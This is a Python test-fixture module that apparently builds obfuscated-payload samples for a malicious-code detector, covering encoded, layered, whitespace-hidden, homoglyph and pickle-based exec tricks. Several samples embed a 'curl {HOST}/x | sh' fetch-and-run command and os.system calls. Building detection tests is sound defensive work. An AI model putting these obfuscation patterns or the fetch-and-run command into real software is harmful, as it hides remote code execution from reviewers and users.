"""Payloads made unreadable: encodings, built names, layers, letters that look like others."""

import base64
import bz2
import lzma
import marshal

from tests.malicious.making import HOST, INERT, Sample, b64, imported, rot13, zipped

FAMILY = "obfuscated payloads"
_SHELL = f"curl {HOST}/x | sh"


def samples() -> list[Sample]:
    """All of the family."""

    def sample(name: str, text: str | bytes, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    marshalled = marshal.dumps(compile(INERT, "x", "exec"))
    layers = base64.b85encode(bz2.compress(lzma.compress(INERT.encode())))
    letters = [ord(c) for c in INERT]
    return [
        sample("base64", f"import base64\nexec(base64.b64decode('{b64()}'))\n"),
        sample(
            "zlib behind base64 behind names",
            f"from zlib import decompress as a\nfrom base64 import b64decode as b\n"
            f"c = b({base64.b64encode(zipped())!r})\nd = a(c)\ne = exec\ne(d)\n",
        ),
        sample(
            "three layers",
            f"import base64, bz2, lzma\nexec(lzma.decompress(bz2.decompress("
            f"base64.b85decode({layers!r}))))\n",
        ),
        sample("marshal", f"import marshal\nexec(marshal.loads({marshalled!r}))\n"),
        sample("rot13", f"import codecs\nexec(codecs.decode({rot13()!r}, 'rot_13'))\n"),
        sample("hex", f"exec(bytes.fromhex('{INERT.encode().hex()}').decode())\n"),
        sample("chr and join", f"exec(''.join(chr(c) for c in {letters}))\n"),
        sample("chr and map", f"exec(''.join(map(chr, {letters})))\n"),
        sample(
            "xor",
            f"data = {[c ^ 23 for c in letters]}\nkey = 23\n"
            "eval(compile(bytes(x ^ key for x in data), '<s>', 'exec'))\n",
        ),
        sample("backwards", f"exec({INERT[::-1]!r}[::-1])\n"),
        sample(
            "names built of pieces",
            f"a = 'o' + 's'\nb = 'sys' + 'tem'\ngetattr(__import__(a), b)('{_SHELL}')\n",
        ),
        sample(
            "builtins by name",
            "__builtins__.__dict__[''.join(['ex', 'ec'])]('import os')\n",
        ),
        sample(
            "globals of globals",
            "globals()['__builtins__'].__dict__['__imp' + 'ort__']('o' + 's')."
            f"__dict__['sys' + 'tem']('{_SHELL}')\n",
        ),
        sample(
            "one lambda",
            "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
            f"exec((_)({base64.b64encode(zipped())[::-1]!r}))\n",
        ),
        sample(
            "name soup",
            "O0O0O00OO0 = 'inert'\nOO00OOO0O0 = O0O0O00OO0\nO00O0O0O0O = OO00OOO0O0\n"
            "OOO0000OOO = O00O0O0O0O\nprint(OOO0000OOO)\n",
        ),
        sample(
            "letters of mathematics",
            "\U0001d626\U0001d639\U0001d626\U0001d624('print(1)')\n",
        ),
        sample(
            "far to the right",
            "VALUE = 42" + " " * 400 + ";import os;os.system('id')\n",
        ),
        sample(
            "a nested program as text",
            f"exec(\"import os\\nos.system('{_SHELL}')\")\n",
        ),
        sample(
            "key from the network",
            "from cryptography.fernet import Fernet\n"
            "exec(Fernet(b'A' * 44).decrypt(b'gAAAAABinert'))\n",
        ),
        sample(
            "big number",
            f"exec(({int.from_bytes(INERT.encode(), 'big')}).to_bytes({len(INERT)}, 'big'))\n",
        ),
        sample(
            "map of exec",
            f"import base64\nlist(map(exec, [base64.b64decode('{b64()}')]))\n",
        ),
        sample(
            "decorators",
            "import base64\n@exec\n@base64.b64decode\n@(lambda f: f.__doc__)\n"
            f"def demo():\n    '{b64()}'\n",
        ),
        sample(
            "another codec for the source",
            b"# -*- coding: utf-7 -*-\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        sample(
            "subclasses of object",
            "for c in ().__class__.__base__.__subclasses__():\n"
            "    if c.__name__ == 'Popen':\n        c(['id'])\n",
        ),
        sample(
            "invisible letters",
            "import os\ndata = '" + "".join(chr(0xE0100 + b) for b in INERT.encode()) + "'\n"
            "exec(''.join(chr(ord(c) - 0xE0100) for c in data))\n",
        ),
        sample(
            "pyarmor",
            "from .pyarmor_runtime_000000 import __pyarmor__\n"
            "__pyarmor__(__name__, __file__, b'PY000000')\n",
        ),
        sample(
            "pickle as text",
            "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
        ),
        sample(
            "function from code",
            "import marshal, types, base64\n"
            f"code = marshal.loads(base64.b64decode({base64.b64encode(marshalled)!r}))\n"
            "types.FunctionType(code, globals())()\n",
        ),
        sample(
            "in the tests",
            "",
            tests=f"import base64 as b, builtins\n"
            f"getattr(builtins, 'exec')(b.b64decode('{b64()}'))\n",
        ),
    ]
